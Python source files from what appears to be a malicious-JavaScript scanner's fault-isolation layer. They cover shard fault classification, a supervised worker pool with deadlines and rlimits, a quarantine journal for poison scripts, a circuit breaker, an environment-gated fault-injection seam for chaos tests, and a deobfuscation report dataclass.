    SHARD_FAULTS,
    SHARD_OK,
    SHARD_OVERLOADED,
    SHARD_REQUEST,
    SHARD_SLOW,
    ShardFault,
    classify_shard_fault,
)
from .workers import (
    CAUSE_CRASHED,
    CAUSE_OOM,
    CAUSE_TIMEOUT,
    FAULT_CAUSES,
    IsolatedPool,
    Outcome,
    Task,
    build_embed_init,
)

__all__ = [
    "CAUSE_CRASHED",
    "CAUSE_OOM",
    "CAUSE_TIMEOUT",
    "CLOSED",
    "CircuitBreaker",
    "ENV_BOOT",
    "ENV_FLAG",
    "FAULT_CAUSES",
    "HALF_OPEN",
    "InjectedFault",
    "IsolatedPool",
    "OPEN",
    "Outcome",
    "QuarantineEntry",
    "QuarantineJournal",
    "SHARD_DEAD",
    "SHARD_FAULTS",
    "SHARD_OK",
    "SHARD_OVERLOADED",
    "SHARD_REQUEST",
    "SHARD_SLOW",
    "ScanLimits",
    "ShardFault",
    "Task",
    "classify_shard_fault",
    "apply_rlimits",
    "build_embed_init",
    "maybe_inject",
    "maybe_inject_boot",
    "read_rusage",
]
