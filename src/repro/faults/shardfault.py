"""Shard-level fault classification for the cluster router.

The router talks HTTP to its shards (:func:`repro.serve.http.fetch`) and
has to decide, per failure, whether the *shard* is suspect or the
*request* was at fault — the same attribution problem
:class:`~repro.faults.workers.IsolatedPool` solves one level down for
worker processes, lifted to whole daemons:

* ``dead`` — connect refused/reset, or the response never framed: the
  process is gone or wedged.  Retry elsewhere, tell the supervisor.
* ``slow`` — the round trip timed out: the shard may recover, but this
  request should not wait for it.  Retry elsewhere, mark suspect.
* ``overloaded`` — the shard answered 429/503: backpressure, not
  breakage.  503 is retryable on another shard (a drain or an open
  breaker is per-shard state); 429 propagates to the client — the
  queue-full signal is load the cluster should shed, not shuffle.
* ``request`` — a 4xx: the shard is healthy and the request is bad.
  Never retried; the answer *is* the answer.
* ``ok`` — anything else (2xx) — not a fault at all.

Retry safety note: scans are pure functions of the script source (the
whole cache design rests on that), so re-sending one to another shard
can never double-apply anything.
"""

from __future__ import annotations

from dataclasses import dataclass

#: Classification outcomes, in roughly descending severity.
SHARD_DEAD = "dead"
SHARD_SLOW = "slow"
SHARD_OVERLOADED = "overloaded"
SHARD_REQUEST = "request"
SHARD_OK = "ok"

SHARD_FAULTS = (SHARD_DEAD, SHARD_SLOW, SHARD_OVERLOADED)


@dataclass(frozen=True)
class ShardFault:
    """One classified shard interaction."""

    cause: str  # one of the SHARD_* constants
    retryable: bool  # may the router re-send this request to another shard?
    suspect: bool  # should the supervisor health-check this shard now?
    detail: str = ""


def classify_shard_fault(error: BaseException | None, status: int | None = None) -> ShardFault:
    """Map one ``fetch`` outcome to a :class:`ShardFault`.

    Args:
        error: The exception ``fetch`` raised, or ``None`` if a response
            arrived.  ``asyncio.TimeoutError`` (a ``TimeoutError``
            subclass since 3.11) means *slow*; ``OSError`` and friends
            mean *dead*; an unparseable response
            (:class:`~repro.serve.http.ProtocolError`) also means dead —
            a daemon that cannot frame HTTP is not one to trust.
        status: The HTTP status, when a response arrived.
    """
    if error is not None:
        if isinstance(error, TimeoutError):
            return ShardFault(SHARD_SLOW, retryable=True, suspect=True, detail=repr(error))
        return ShardFault(SHARD_DEAD, retryable=True, suspect=True, detail=repr(error))
    if status is None:
        raise ValueError("classify_shard_fault needs an error or a status")
    if status == 503:
        return ShardFault(
            SHARD_OVERLOADED, retryable=True, suspect=True, detail="503 from shard"
        )
    if status == 429:
        return ShardFault(
            SHARD_OVERLOADED, retryable=False, suspect=False, detail="429 from shard"
        )
    if 400 <= status < 500:
        return ShardFault(SHARD_REQUEST, retryable=False, suspect=False, detail=f"{status} from shard")
    if status >= 500:
        return ShardFault(SHARD_DEAD, retryable=True, suspect=True, detail=f"{status} from shard")
    return ShardFault(SHARD_OK, retryable=False, suspect=False)
