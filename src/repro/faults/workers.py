"""Fault-isolated worker pool: one hostile script cannot take down a batch.

``multiprocessing.Pool`` is the wrong tool for adversarial inputs: it
multiplexes tasks over shared queues, so the parent never knows *which*
worker is chewing on *which* script — a SIGKILLed worker silently orphans
its task (``AsyncResult.get`` blocks forever), and recovering means tearing
down and re-dispatching the whole batch.  :class:`IsolatedPool` instead
gives every worker a private duplex pipe and tracks exactly one in-flight
task per worker, which buys the three properties the isolation layer needs:

* **attribution** — when a worker dies or overruns its deadline, the
  supervisor knows precisely which script is the poison,
* **containment** — only the poison script's worker is killed and
  replaced; every other worker keeps its task and its warm state,
* **classification** — exit codes and reply envelopes separate ``timeout``
  (parent kill), ``oom`` (``MemoryError`` under rlimit, reported
  gracefully), and ``crashed`` (signal death, injected exit, exception).

Workers apply :func:`~repro.faults.limits.apply_rlimits` at bootstrap and
answer each task with either an ``ok`` payload or a structured fault; the
parent never trusts a worker to stay alive and enforces wall-clock
deadlines itself via ``multiprocessing.connection.wait`` + SIGKILL.
"""

from __future__ import annotations

import multiprocessing
import multiprocessing.connection
import signal
import time
from dataclasses import dataclass
from typing import Any

from .inject import InjectedFault, maybe_inject
from .limits import ScanLimits, apply_rlimits, read_rusage

CAUSE_TIMEOUT = "timeout"
CAUSE_OOM = "oom"
CAUSE_CRASHED = "crashed"

#: Result statuses that mean "a worker was lost to this script".
FAULT_CAUSES = (CAUSE_TIMEOUT, CAUSE_OOM, CAUSE_CRASHED)

#: How many fresh workers one task may burn through before the pool gives
#: up on it (covers workers that die while idle, not the task's fault).
_MAX_ASSIGN_ATTEMPTS = 3


@dataclass
class Task:
    """One unit of isolated work; ``index`` is the caller's correlation id."""

    kind: str  # "embed" | "analyze"
    index: int
    source: str
    name: str = "<script>"
    #: W3C ``traceparent`` of the caller's per-file span.  When set, the
    #: worker records its own spans (parented to this context) and ships
    #: them back in the reply; ``None`` disables worker-side tracing.
    traceparent: str | None = None


@dataclass
class Outcome:
    """What became of one task: a payload, or a classified fault."""

    index: int
    kind: str
    ok: bool
    payload: Any = None  # embed: (vectors, weights, path_count, ms, ms, status, top_paths)
    cause: str | None = None  # FAULT_CAUSES member when not ok
    detail: str | None = None
    rusage: dict | None = None
    elapsed_ms: float = 0.0
    #: Span dicts recorded inside the worker (already parented to the
    #: task's ``traceparent``); ``None`` when tracing was off or the
    #: worker died before replying.
    spans: list[dict] | None = None


# ----------------------------------------------------------------- worker side


def build_embed_init(detector) -> dict:
    """Freeze a fitted detector's per-script pipeline config for workers."""
    import numpy as np

    config = detector.config
    return {
        "extractor_kwargs": {
            "max_length": config.max_path_length,
            "max_width": config.max_path_width,
            "use_dataflow": config.use_dataflow,
        },
        "embed_dim": detector.embedder.model.embed_dim,
        "parameters": {
            name: np.ascontiguousarray(tensor)
            for name, tensor in detector.embedder.model.parameters().items()
        },
        "max_paths": config.max_paths_per_script,
    }


def _build_embed_state(init: dict) -> dict:
    from repro.embedding import PathEmbedder
    from repro.paths import PathExtractor

    embedder = PathEmbedder(embed_dim=init["embed_dim"])
    embedder.model.load_parameters(init["parameters"])
    embedder._trained = True
    return {
        "extractor": PathExtractor(**init["extractor_kwargs"]),
        "embedder": embedder,
        "max_paths": init["max_paths"],
    }


def _run_embed(state: dict, source: str, capture_paths: bool = False) -> tuple:
    """Extract + embed one script; mirrors the sequential stage semantics.

    With ``capture_paths`` the top attention-weighted path signatures ride
    along as provenance (the Table VII evidence for a traced verdict).
    """
    import numpy as np

    from repro.jsparser import JSSyntaxError
    from repro.paths import ExtractionError

    maybe_inject(source, stage="embed")
    status = "ok"
    started = time.perf_counter()
    try:
        contexts = state["extractor"].extract_from_source(source)
    except (JSSyntaxError, ExtractionError, RecursionError):
        contexts = []
        status = "parse_error"
    extract_ms = 1000.0 * (time.perf_counter() - started)

    path_count = len(contexts)
    started = time.perf_counter()
    vectors, weights = state["embedder"].embed(contexts)
    if len(vectors) > state["max_paths"]:
        top = np.argsort(weights)[::-1][: state["max_paths"]]
        vectors, weights = vectors[top], weights[top]
        contexts = [contexts[int(i)] for i in top]
    embed_ms = 1000.0 * (time.perf_counter() - started)
    top_paths = _top_attention_paths(contexts, weights) if capture_paths else None
    return vectors, weights, path_count, extract_ms, embed_ms, status, top_paths


def _top_attention_paths(contexts, weights, k: int = 5) -> list[dict]:
    """The ``k`` highest-attention path contexts as JSON-ready provenance."""
    import numpy as np

    if len(contexts) == 0 or len(weights) == 0 or len(contexts) != len(weights):
        return []
    order = np.argsort(np.asarray(weights, dtype=float))[::-1][:k]
    return [
        {"path": contexts[int(i)].signature(), "weight": round(float(weights[int(i)]), 6)}
        for i in order
    ]


def _worker_spans(traceparent: str | None, kind: str, elapsed_ms: float, payload: Any) -> list[dict] | None:
    """Span dicts for one completed task, parented to the caller's context.

    The worker cannot share the parent's clock or tracer, so spans are
    reconstructed from the stage timings it already measures: a
    ``worker.<kind>`` root under the task's ``traceparent``, with
    ``path_extraction``/``embedding`` children for embed tasks.  Returns
    ``None`` when tracing is off or the header is malformed.
    """
    if traceparent is None:
        return None
    import os

    from repro.obs.trace import SpanContext, new_span_id

    ctx = SpanContext.parse(traceparent)
    if ctx is None:
        return None
    ended = time.time()
    root_start = ended - elapsed_ms / 1000.0
    root_id = new_span_id()

    def span(name: str, parent_id: str, start: float, duration_ms: float, **attrs) -> dict:
        return {
            "name": name,
            "trace_id": ctx.trace_id,
            "span_id": new_span_id(),
            "parent_id": parent_id,
            "start_unix": round(start, 6),
            "duration_ms": round(duration_ms, 3),
            "attributes": attrs,
            "events": [],
            "status": "ok",
        }

    root = span(f"worker.{kind}", ctx.span_id, root_start, elapsed_ms, pid=os.getpid())
    root["span_id"] = root_id
    spans = [root]
    if kind == "embed" and isinstance(payload, tuple) and len(payload) >= 6:
        extract_ms, embed_ms, status = payload[3], payload[4], payload[5]
        spans.append(
            span("path_extraction", root_id, root_start, extract_ms, status=status)
        )
        spans.append(
            span("embedding", root_id, root_start + extract_ms / 1000.0, embed_ms)
        )
    return spans


def _worker_main(conn, embed_init: dict | None, limits_dict: dict | None) -> None:
    """Worker loop: apply rlimits, then answer tasks until told to stop."""
    limits = ScanLimits.from_dict(limits_dict)
    if limits is not None:
        apply_rlimits(limits)
    embed_state: dict | None = None
    analyzer = None
    while True:
        try:
            message = conn.recv()
        except (EOFError, OSError):
            return
        if message is None:
            return
        kind, index, source, name, traceparent = message
        started = time.perf_counter()
        try:
            if kind == "embed":
                if embed_state is None:
                    embed_state = _build_embed_state(embed_init)
                payload = _run_embed(embed_state, source, capture_paths=traceparent is not None)
            elif kind == "analyze":
                if analyzer is None:
                    from repro.analysis import Analyzer

                    analyzer = Analyzer()
                maybe_inject(source, stage="analysis")
                payload = analyzer.analyze(source, name=name).to_dict()
            else:
                raise ValueError(f"unknown task kind {kind!r}")
            reply = (index, kind, "ok", payload, None, None)
        except MemoryError:
            # The rlimit refused an allocation: the script is an OOM, the
            # worker itself is fine (the failed frame released its memory).
            reply = (index, kind, "fault", None, CAUSE_OOM, "MemoryError under rlimit")
        except InjectedFault as error:
            reply = (index, kind, "fault", None, CAUSE_CRASHED, f"injected: {error}")
        except Exception as error:
            reply = (index, kind, "fault", None, CAUSE_CRASHED, f"{type(error).__name__}: {error}")
        elapsed_ms = 1000.0 * (time.perf_counter() - started)
        spans = None
        if reply[2] == "ok":
            try:
                spans = _worker_spans(traceparent, kind, elapsed_ms, reply[3])
            except Exception:
                spans = None  # tracing must never fail a healthy task
        try:
            conn.send(reply + (spans, read_rusage(), elapsed_ms))
        except Exception:
            # Can't even report (pipe gone, reply unpicklable): die loudly so
            # the parent's death classifier takes over.
            import os

            os._exit(70)


# ----------------------------------------------------------------- parent side


class _Worker:
    """One process + its private pipe + the task it is running."""

    def __init__(self, ctx, embed_init: dict | None, limits: ScanLimits | None):
        parent_conn, child_conn = ctx.Pipe(duplex=True)
        self.conn = parent_conn
        self.process = ctx.Process(
            target=_worker_main,
            args=(child_conn, embed_init, limits.to_dict() if limits is not None else None),
            daemon=True,
        )
        self.process.start()
        child_conn.close()
        self.task: Task | None = None
        self.deadline: float | None = None
        self.attempts = 0  # assignment attempts for the current task

    def assign(self, task: Task, timeout_s: float | None) -> None:
        self.task = task
        self.deadline = time.monotonic() + timeout_s if timeout_s is not None else None
        self.conn.send((task.kind, task.index, task.source, task.name, task.traceparent))

    def clear(self) -> None:
        self.task = None
        self.deadline = None
        self.attempts = 0

    def kill(self) -> None:
        try:
            self.process.kill()
        except Exception:
            pass
        self.process.join(timeout=5.0)

    def shutdown(self) -> None:
        try:
            self.conn.send(None)
        except Exception:
            pass
        self.process.join(timeout=1.0)
        if self.process.is_alive():
            self.kill()
        try:
            self.conn.close()
        except Exception:
            pass


class IsolatedPool:
    """Supervised pool of single-task workers with per-script deadlines.

    Args:
        embed_init: Frozen pipeline config from :func:`build_embed_init`
            (may be ``None`` for analyze-only pools, e.g. tests).
        limits: Resource bounds applied inside each worker plus the
            parent-enforced wall-clock deadline.
        n_workers: Concurrent workers; the pool is replenished to this size
            whenever a worker is lost.
    """

    def __init__(
        self,
        embed_init: dict | None,
        limits: ScanLimits | None = None,
        n_workers: int = 1,
    ):
        if n_workers < 1:
            raise ValueError("n_workers must be positive")
        self.embed_init = embed_init
        self.limits = limits
        self.n_workers = n_workers
        self._ctx = multiprocessing.get_context()
        self._workers: list[_Worker] = []
        #: Workers lost to kills/deaths over the pool's lifetime (test hook).
        self.workers_lost = 0

    # ------------------------------------------------------------- lifecycle

    def _spawn(self) -> _Worker:
        worker = _Worker(self._ctx, self.embed_init, self.limits)
        self._workers.append(worker)
        return worker

    def _retire(self, worker: _Worker) -> None:
        self.workers_lost += 1
        try:
            self._workers.remove(worker)
        except ValueError:
            pass
        try:
            worker.conn.close()
        except Exception:
            pass
        if worker.process.is_alive():
            worker.kill()

    def close(self) -> None:
        for worker in list(self._workers):
            worker.shutdown()
        self._workers.clear()

    def __enter__(self) -> "IsolatedPool":
        return self

    def __exit__(self, *exc) -> bool:
        self.close()
        return False

    # ------------------------------------------------------------------- run

    def run(self, tasks: list[Task]) -> list[Outcome]:
        """Execute every task; always returns one outcome per task.

        Faulted tasks come back with a classified cause instead of raising;
        the pool itself survives any combination of hangs and deaths.
        """
        if not tasks:
            return []
        outcomes: dict[tuple[str, int], Outcome] = {}
        queue: list[Task] = list(tasks)
        while len(self._workers) < min(self.n_workers, len(tasks)):
            self._spawn()
        idle = [w for w in self._workers if w.task is None]
        busy = [w for w in self._workers if w.task is not None]

        def fault(task: Task, cause: str, detail: str) -> None:
            outcomes[(task.kind, task.index)] = Outcome(
                index=task.index, kind=task.kind, ok=False, cause=cause, detail=detail
            )

        while queue or busy:
            # Feed idle workers, replacing any that died while idle.
            while queue and idle:
                worker = idle.pop()
                task = queue.pop(0)
                attempts = worker.attempts + 1
                try:
                    worker.assign(task, self._deadline_for(task))
                except (BrokenPipeError, OSError):
                    self._retire(worker)
                    if attempts >= _MAX_ASSIGN_ATTEMPTS:
                        fault(task, CAUSE_CRASHED, "no worker could accept the task")
                    else:
                        replacement = self._spawn()
                        replacement.attempts = attempts
                        idle.append(replacement)
                        queue.insert(0, task)
                    continue
                busy.append(worker)

            if not busy:
                continue

            now = time.monotonic()
            deadlines = [w.deadline for w in busy if w.deadline is not None]
            wait_s = max(0.0, min(deadlines) - now) if deadlines else None
            handles: list = []
            for worker in busy:
                handles.append(worker.conn)
                handles.append(worker.process.sentinel)
            ready = set(multiprocessing.connection.wait(handles, timeout=wait_s))

            still_busy: list[_Worker] = []
            for worker in busy:
                task = worker.task
                settled = False
                if worker.conn in ready:
                    try:
                        reply = worker.conn.recv()
                    except (EOFError, OSError):
                        reply = None  # died mid-send; classified below
                    if reply is not None:
                        index, kind, verdict, payload, cause, detail, spans, rusage, elapsed = reply
                        outcomes[(kind, index)] = Outcome(
                            index=index,
                            kind=kind,
                            ok=verdict == "ok",
                            payload=payload,
                            cause=cause,
                            detail=detail,
                            rusage=rusage,
                            elapsed_ms=elapsed,
                            spans=spans,
                        )
                        worker.clear()
                        idle.append(worker)
                        settled = True
                if not settled and not worker.process.is_alive():
                    cause, detail = self._classify_death(worker)
                    fault(task, cause, detail)
                    self._retire(worker)
                    idle.append(self._spawn())
                    settled = True
                if not settled and worker.deadline is not None and time.monotonic() >= worker.deadline:
                    fault(
                        task,
                        CAUSE_TIMEOUT,
                        f"exceeded {self._deadline_for(task):g}s wall-clock deadline",
                    )
                    self._retire(worker)  # SIGKILL: the only safe way out of a hot loop
                    idle.append(self._spawn())
                    settled = True
                if not settled:
                    still_busy.append(worker)
            busy = still_busy

        return [outcomes[(task.kind, task.index)] for task in tasks]

    # -------------------------------------------------------------- internals

    def _deadline_for(self, task: Task) -> float | None:
        return self.limits.deadline_for(task.kind) if self.limits is not None else None

    @staticmethod
    def _classify_death(worker: _Worker) -> tuple[str, str]:
        exitcode = worker.process.exitcode
        if exitcode is not None and exitcode < 0:
            try:
                name = signal.Signals(-exitcode).name
            except ValueError:
                name = str(-exitcode)
            if -exitcode == signal.SIGKILL:
                return CAUSE_CRASHED, "worker killed (SIGKILL — external kill or kernel OOM)"
            if -exitcode == signal.SIGSEGV:
                return CAUSE_CRASHED, "worker segfaulted (SIGSEGV)"
            return CAUSE_CRASHED, f"worker killed by signal {name}"
        if exitcode == 137:
            return CAUSE_CRASHED, "worker exited 137 (SIGKILL-style death)"
        return CAUSE_CRASHED, f"worker died (exit code {exitcode})"
