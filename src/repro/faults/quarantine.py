"""Poison quarantine: an append-only journal of scripts that broke a worker.

A script that hung, OOMed, or crashed its worker once will do it again —
retrying poison is how one bad input degrades a whole service.  The journal
records each fault (content hash, stage, cause, rusage) to
``quarantine.jsonl`` and answers "have we been burned by this exact script
before?" via an in-memory index, so re-submissions skip the expensive
faulting stage entirely and go straight to the degraded-verdict path.

Design notes:

* **append-only JSONL** — one fault, one line, written with flush; a crash
  mid-write loses at most the trailing partial line, which the loader
  skips (a truncated journal must never take the scanner down with it),
* **content-addressed** — keyed by the same SHA-256 the embedding cache
  uses, so renames/re-uploads of the same bytes stay quarantined,
* **memory-only mode** — ``path=None`` keeps the index per-process (the
  daemon's default when no ``--quarantine-dir`` is given).
"""

from __future__ import annotations

import json
import threading
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path


@dataclass
class QuarantineEntry:
    """One quarantined script: what faulted, where, and why."""

    sha256: str
    name: str
    stage: str  # pipeline stage that faulted: "embed" | "analyze"
    cause: str  # "timeout" | "oom" | "crashed"
    detail: str = ""
    rusage: dict | None = None
    ts: float = field(default_factory=time.time)

    def to_dict(self) -> dict:
        return asdict(self)

    @classmethod
    def from_dict(cls, data: dict) -> "QuarantineEntry":
        return cls(
            sha256=data["sha256"],
            name=data.get("name", "<script>"),
            stage=data.get("stage", "embed"),
            cause=data.get("cause", "crashed"),
            detail=data.get("detail", ""),
            rusage=data.get("rusage"),
            ts=data.get("ts", 0.0),
        )


class QuarantineJournal:
    """Append-only fault journal with an in-memory known-poison index.

    Args:
        path: JSONL file to persist to; parent directories are created.
            ``None`` keeps the journal in memory only (still deduplicates
            within the process lifetime).

    Thread-safe: the scan executor thread and tests may record/query
    concurrently.
    """

    FILENAME = "quarantine.jsonl"

    def __init__(self, path: str | Path | None = None):
        self.path = Path(path) if path is not None else None
        self._lock = threading.Lock()
        self._index: dict[str, QuarantineEntry] = {}
        if self.path is not None:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self._load()

    @classmethod
    def in_dir(cls, directory: str | Path) -> "QuarantineJournal":
        """The conventional layout: ``<dir>/quarantine.jsonl``."""
        return cls(Path(directory) / cls.FILENAME)

    def _load(self) -> None:
        if self.path is None or not self.path.exists():
            return
        try:
            lines = self.path.read_text(encoding="utf-8", errors="replace").splitlines()
        except OSError:
            return
        for line in lines:
            line = line.strip()
            if not line:
                continue
            try:
                entry = QuarantineEntry.from_dict(json.loads(line))
            except (json.JSONDecodeError, KeyError, TypeError):
                continue  # torn/corrupt tail line: skip, never raise
            self._index[entry.sha256] = entry

    # ------------------------------------------------------------------- API

    def __len__(self) -> int:
        with self._lock:
            return len(self._index)

    def __contains__(self, sha256: str) -> bool:
        with self._lock:
            return sha256 in self._index

    def lookup(self, sha256: str) -> QuarantineEntry | None:
        with self._lock:
            return self._index.get(sha256)

    def entries(self) -> list[QuarantineEntry]:
        with self._lock:
            return list(self._index.values())

    def record(self, entry: QuarantineEntry) -> None:
        """Quarantine one script; idempotent per content hash."""
        with self._lock:
            known = entry.sha256 in self._index
            self._index[entry.sha256] = entry
            if self.path is None or known:
                return
            try:
                with self.path.open("a", encoding="utf-8") as handle:
                    handle.write(json.dumps(entry.to_dict()) + "\n")
                    handle.flush()
            except OSError:
                pass  # a read-only disk must not break scanning
