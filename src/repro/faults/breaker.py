"""Circuit breaker around the scan executor.

Worker deaths are expensive: each one costs a kill + respawn, and a
sustained stream of them (a poisoned submission queue, a bad deploy of the
model, a kernel OOM storm) can keep the daemon busy doing nothing but
burying workers.  The breaker converts that state into fast, explicit
backpressure:

* **closed** — normal operation; consecutive worker deaths are counted,
  any fully clean batch resets the count,
* **open** — after ``failure_threshold`` consecutive deaths; admission is
  refused (the daemon answers 503 + ``Retry-After``) until
  ``reset_timeout_s`` elapses,
* **half-open** — one probe batch is admitted; success closes the
  breaker, another death re-opens it (and restarts the clock).

The breaker is deliberately ignorant of HTTP — it answers ``allow()`` and
consumes ``record_success()``/``record_failure()``; the server maps that
onto status codes.  Thread-safe; the clock is injectable for tests.
"""

from __future__ import annotations

import threading
import time
from typing import TYPE_CHECKING, Callable

if TYPE_CHECKING:  # pragma: no cover
    from repro.obs import MetricsRegistry

CLOSED = "closed"
OPEN = "open"
HALF_OPEN = "half_open"

#: Gauge encoding for /metrics (`repro_breaker_state`).
STATE_CODES = {CLOSED: 0, HALF_OPEN: 1, OPEN: 2}


class CircuitBreaker:
    """Consecutive-failure breaker with a half-open recovery probe.

    Args:
        failure_threshold: Consecutive worker deaths that open the breaker.
        reset_timeout_s: Seconds the breaker stays open before admitting a
            half-open probe.
        clock: Monotonic time source (injectable for deterministic tests).
        metrics: Optional registry; mirrors state and transition counts
            into ``repro_breaker_state`` / ``repro_breaker_transitions_total``.
    """

    def __init__(
        self,
        failure_threshold: int = 5,
        reset_timeout_s: float = 30.0,
        clock: Callable[[], float] = time.monotonic,
        metrics: "MetricsRegistry | None" = None,
    ):
        if failure_threshold < 1:
            raise ValueError("failure_threshold must be positive")
        if reset_timeout_s <= 0:
            raise ValueError("reset_timeout_s must be positive")
        self.failure_threshold = failure_threshold
        self.reset_timeout_s = reset_timeout_s
        self._clock = clock
        self._lock = threading.Lock()
        self._state = CLOSED
        self._consecutive_failures = 0
        self._opened_at: float | None = None
        self._probe_in_flight = False

        self._m_state = None
        self._m_transitions: dict[str, object] = {}
        if metrics is not None:
            self._m_state = metrics.gauge(
                "repro_breaker_state",
                "Scan-executor circuit breaker state (0 closed, 1 half-open, 2 open)",
            )
            self._m_transitions = {
                state: metrics.counter(
                    "repro_breaker_transitions_total",
                    "Circuit breaker state transitions",
                    labels={"to": state},
                )
                for state in (CLOSED, OPEN, HALF_OPEN)
            }

    # ------------------------------------------------------------- inspection

    @property
    def state(self) -> str:
        with self._lock:
            self._maybe_half_open()
            return self._state

    @property
    def consecutive_failures(self) -> int:
        with self._lock:
            return self._consecutive_failures

    def retry_after_s(self) -> float:
        """Seconds until a probe would be admitted (0 when not open)."""
        with self._lock:
            if self._state != OPEN or self._opened_at is None:
                return 0.0
            return max(0.0, self._opened_at + self.reset_timeout_s - self._clock())

    def snapshot(self) -> dict:
        """State summary for /healthz."""
        with self._lock:
            self._maybe_half_open()
            out = {
                "state": self._state,
                "consecutive_failures": self._consecutive_failures,
                "failure_threshold": self.failure_threshold,
            }
            if self._state == OPEN and self._opened_at is not None:
                out["retry_after_s"] = round(
                    max(0.0, self._opened_at + self.reset_timeout_s - self._clock()), 3
                )
            return out

    # --------------------------------------------------------------- protocol

    def allow(self) -> bool:
        """May one batch be dispatched right now?

        In half-open state exactly one caller wins the probe slot; everyone
        else keeps getting refused until the probe reports back.
        """
        with self._lock:
            self._maybe_half_open()
            if self._state == CLOSED:
                return True
            if self._state == HALF_OPEN and not self._probe_in_flight:
                self._probe_in_flight = True
                return True
            return False

    def record_success(self) -> None:
        """A batch completed with zero worker deaths."""
        with self._lock:
            self._consecutive_failures = 0
            self._probe_in_flight = False
            if self._state != CLOSED:
                self._transition(CLOSED)
            self._opened_at = None

    def record_failure(self, deaths: int = 1) -> None:
        """``deaths`` workers died serving the last batch."""
        with self._lock:
            self._consecutive_failures += max(1, deaths)
            self._probe_in_flight = False
            if self._state == HALF_OPEN or (
                self._state == CLOSED and self._consecutive_failures >= self.failure_threshold
            ):
                self._transition(OPEN)
            if self._state == OPEN:
                self._opened_at = self._clock()

    # -------------------------------------------------------------- internals

    def _maybe_half_open(self) -> None:
        # Caller holds the lock.
        if (
            self._state == OPEN
            and self._opened_at is not None
            and self._clock() - self._opened_at >= self.reset_timeout_s
        ):
            self._transition(HALF_OPEN)
            self._probe_in_flight = False

    def _transition(self, state: str) -> None:
        # Caller holds the lock.
        self._state = state
        if self._m_state is not None:
            self._m_state.set(STATE_CODES[state])
            self._m_transitions[state].inc()
