"""Deterministic fault injection: the chaos-test seam.

Every recovery path in the isolation layer — deadline kill, worker-death
classification, OOM conversion, quarantine, breaker trips — must be
exercisable from tests without depending on actually pathological inputs
(which are slow, platform-sensitive, and flaky by nature).  This module is
the seam: when the ``REPRO_FAULT_INJECT`` environment variable is set
truthy, scripts may carry magic marker comments that make the *worker*
misbehave on purpose, e.g.::

    /* @repro-fault:hang */          sleep far past any deadline
    /* @repro-fault:exit137 */       os._exit(137)  (SIGKILL-style death)
    /* @repro-fault:allocbomb */     allocate until MemoryError
    /* @repro-fault:raise */         raise InjectedFault

A marker may scope itself to a stage with ``@`` (default ``embed``)::

    /* @repro-fault:hang@analysis */ hang only the degraded-analysis task

The seam is **dormant in production**: without the environment flag the
marker scan never runs, and the markers themselves are plain comments to
every other component.  Worker processes inherit the environment, so the
flag set in a test process (or CI job) reaches them under both fork and
spawn start methods.
"""

from __future__ import annotations

import os
import re
import time

#: Environment flag that arms the seam ("" / "0" mean disarmed).
ENV_FLAG = "REPRO_FAULT_INJECT"

#: Markers fired at *daemon boot* (before the listener binds) — the
#: crash-loop chaos seam.  The supervisor injects this per shard via
#: ``shard_env``; the value is scanned like a script, so
#: ``@repro-fault:exit137@boot`` makes that shard die on every spawn.
ENV_BOOT = "REPRO_FAULT_BOOT"

#: Marker grammar: ``@repro-fault:<kind>[@<stage>]``.
_MARKER = re.compile(r"@repro-fault:([a-z0-9_]+)(?:@([a-z]+))?")

#: How long an injected hang sleeps — effectively forever next to any
#: realistic per-script deadline, bounded so an unkilled worker still dies.
HANG_SECONDS = 600.0


class InjectedFault(RuntimeError):
    """Raised by the ``raise`` marker; classified as a ``crashed`` fault."""


def enabled() -> bool:
    return os.environ.get(ENV_FLAG, "") not in ("", "0")


def maybe_inject(source: str, stage: str = "embed") -> None:
    """Fire any armed marker in ``source`` scoped to ``stage``.

    No-op unless :func:`enabled`.  Called from the isolated worker at the
    top of each task, so the parent-side supervisor sees exactly what a
    real pathological script would produce.
    """
    if not enabled():
        return
    for match in _MARKER.finditer(source):
        kind, marker_stage = match.group(1), match.group(2) or "embed"
        if marker_stage != stage:
            continue
        _fire(kind)


def maybe_inject_boot() -> None:
    """Fire any armed ``boot``-stage marker in :data:`ENV_BOOT`.

    Called by ``run_server`` before binding its listener: a shard whose
    environment carries ``@repro-fault:exit137@boot`` dies on every
    spawn, which is exactly the shape of a crash-looping daemon the
    supervisor's restart budget exists for.
    """
    if not enabled():
        return
    maybe_inject(os.environ.get(ENV_BOOT, ""), stage="boot")


def _fire(kind: str) -> None:
    if kind == "hang":
        time.sleep(HANG_SECONDS)
    elif kind == "exit137":
        os._exit(137)
    elif kind == "allocbomb":
        blocks = []
        while True:  # MemoryError under RLIMIT_AS; the worker reports "oom"
            blocks.append(bytearray(16 * 1024 * 1024))
    elif kind == "raise":
        raise InjectedFault("injected failure marker")
    # Unknown kinds are ignored: forward-compatible with new chaos tests.
