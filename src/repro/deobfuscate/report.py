"""Normalization provenance: what the deobfuscation pre-pass did and why.

Every :meth:`~repro.deobfuscate.Deobfuscator.normalize` call returns a
:class:`NormalizationReport` next to the (possibly rewritten) source.  The
report is the audit trail the rest of the stack consumes: the scanner
attaches it to verdict provenance and the ``deobfuscate`` trace span, the
daemon serializes it into scan responses, and the A/B bench aggregates its
counters.  A report never implies failure of the *scan* — when the
normalizer degrades, the original source flows through untouched and the
report says so.
"""

from __future__ import annotations

from dataclasses import dataclass, field

#: Stage names in execution order; one rewrite counter per stage.  The
#: numbering in DESIGN.md §12 maps onto these: fold/member (stage 1),
#: decode/eval_unwrap (stage 2), string_array/unflatten (stage 3),
#: dead_branch (stage 4), forced_exec (stage 5).
STAGE_NAMES = (
    "fold",
    "member",
    "decode",
    "string_array",
    "unflatten",
    "eval_unwrap",
    "dead_branch",
    "forced_exec",
)

#: Forced-execution attempt outcomes (per *call site*, deduplicated by
#: memo): ``ok`` folded a literal, the rest explain why one did not.
FORCED_OUTCOMES = ("ok", "budget_exceeded", "unsupported", "error")


@dataclass
class NormalizationReport:
    """Per-script accounting for one deobfuscation run."""

    #: The emitted source differs from the input (≥1 rewrite applied).
    changed: bool = False
    #: The normalizer gave up entirely and returned the original source
    #: (parse failure, oversized input, internal error).  Never fatal to
    #: the scan — a degraded normalization is a no-op, not an abort.
    degraded: bool = False
    degraded_reason: str | None = None
    #: A full pass applied no rewrites (the transform set converged)
    #: within the pass budget.
    fixpoint: bool = False
    #: Passes executed (1 N means the stage list ran N times).
    iterations: int = 0
    #: Per-stage rewrite counts, accumulated across passes.
    rewrites: dict[str, int] = field(default_factory=dict)
